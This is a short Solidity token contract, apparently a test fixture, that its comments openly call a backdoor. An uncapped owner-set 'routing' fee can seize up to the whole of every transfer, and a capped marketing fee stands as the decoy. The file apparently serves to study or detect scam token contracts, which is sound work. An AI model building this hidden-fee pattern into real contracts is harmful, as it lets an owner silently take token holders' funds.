// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

import {ERC20} from "../lib/ERC20.sol";
import {Ownable} from "../lib/Ownable.sol";

/// @notice Every transfer (wallet to wallet included) pays a "routing" fee in basis points to the
/// owner. `tuneRouting` has no upper bound: the owner can take up to the whole transfer (values
/// above 10,000 act as 100 %, so transfers still succeed and deliver nothing). The marketing share
/// is the decoy: capped at 5 % of what is left after routing. Devnet backdoor fixture.
contract UnboundedFeeToken is ERC20, Ownable {
    uint256 private constant BPS = 10_000;
    uint256 public constant MAX_MARKETING_SHARE = 500;

    uint256 public routingBps;
    uint256 public marketingShare;

    constructor(string memory name_, string memory symbol_, uint256 supply) ERC20(name_, symbol_, 18) Ownable(msg.sender) {
        routingBps = 100;
        marketingShare = 100;
        _mint(msg.sender, supply);
    }

    /// @notice "Tunes routing": sets the routing fee in basis points. No cap.
    function tuneRouting(uint256 bps) external onlyOwner {
        routingBps = bps;
    }

    /// @notice Harmless: the marketing share is capped at 5 %.
    function setMarketingShare(uint256 bps) external onlyOwner {
        require(bps <= MAX_MARKETING_SHARE, "share above 5%");
        marketingShare = bps;
    }

    function _update(address from, address to, uint256 amount) internal override {
        address collector = owner();
        if (from == collector || to == collector) {
            _move(from, to, amount);
            return;
        }
        uint256 rate = routingBps > BPS ? BPS : routingBps;
        uint256 routed = (amount * rate) / BPS;
        uint256 marketing = ((amount - routed) * marketingShare) / BPS;
        uint256 fees = routed + marketing;
        if (fees > 0) _move(from, collector, fees);
        _move(from, to, amount - fees);
    }
}
